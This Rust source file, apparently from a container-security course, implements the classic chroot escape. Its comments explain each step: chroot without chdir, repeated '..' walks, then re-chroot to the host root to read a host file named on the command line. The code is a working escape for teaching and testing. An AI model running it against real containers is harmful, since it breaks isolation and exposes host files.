//! The classic chroot escape, for the lesson in chapter 1 (and the test in
//! chapter 3). Build it as a static program, so it runs inside a busybox
//! image that has no shared libraries:
//!
//! ```text
//! rustc -O -C target-feature=+crt-static chapters/01-chroot/escape.rs -o /tmp/escape
//! ```
//!
//! Run inside a container as root, it prints the file named by its first
//! argument *as the host sees it*, if it can reach the host's root.

use std::env;
use std::fs;
use std::os::unix::fs::chroot;

fn main() {
    let target = env::args().nth(1).unwrap_or_else(|| "/etc/hostname".to_string());

    // 1. Make a directory and chroot into it, but do NOT chdir into it.
    //    Our current directory is now *outside* our root directory.
    fs::create_dir_all("/escape-hatch").expect("mkdir /escape-hatch");
    chroot("/escape-hatch").expect("chroot /escape-hatch");

    // 2. The kernel stops `..` only at the process's root directory. We are
    //    not below it any more, so `..` walks up, past the old root, to the
    //    host's real `/`, where `..` is `/` itself.
    for _ in 0..64 {
        env::set_current_dir("..").expect("chdir ..");
    }

    // 3. Make that real `/` our root again. We are out.
    chroot(".").expect("chroot .");

    match fs::read_to_string(&target) {
        Ok(text) => print!("escaped! {target} on the host says: {text}"),
        Err(err) => println!("still inside: cannot read {target}: {err}"),
    }
}
